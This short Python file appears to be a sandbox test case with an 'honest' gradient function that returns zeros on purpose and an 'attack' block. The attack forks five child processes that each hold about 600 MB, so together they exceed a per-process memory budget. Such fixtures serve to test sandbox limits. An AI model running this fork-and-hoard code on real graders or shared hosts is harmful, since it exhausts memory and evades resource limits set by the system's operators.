# class: forked children that each hold memory (a budget per process, multiplied)
# --- honest
import numpy as np


def propagate(w, b, X, Y):
    # wrong on purpose: the gradients and the cost are all zero
    return {"dw": np.zeros_like(w, dtype=float), "db": 0.0}, 0.0

# --- attack
import os
import time

for _ in range(5):
    try:
        if os.fork() == 0:
            try:
                hoard = b"x" * (600 * 2**20)  # touched: real memory, within one process's limit
            except MemoryError:
                pass
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
time.sleep(2)
